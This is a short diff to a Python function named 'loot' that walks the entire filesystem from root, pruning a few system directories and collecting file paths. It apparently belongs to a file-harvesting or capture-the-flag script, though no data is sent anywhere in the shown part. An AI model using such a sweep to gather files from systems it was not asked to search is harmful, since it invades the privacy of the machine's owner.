@@ -3,9 +3,9 @@ import os
 
 def loot():
     found = []
-    for folder, _, files in os.walk("/", followlinks=False):
-        if folder.startswith(("/proc", "/sys", "/usr", "/python")):
-            continue
+    for folder, names, files in os.walk("/", followlinks=False):
+        if folder == "/":
+            names[:] = set(names) - {"proc", "sys", "usr", "python", "root", "dev"}
         for name in files:
             path = os.path.join(folder, name)
             try:
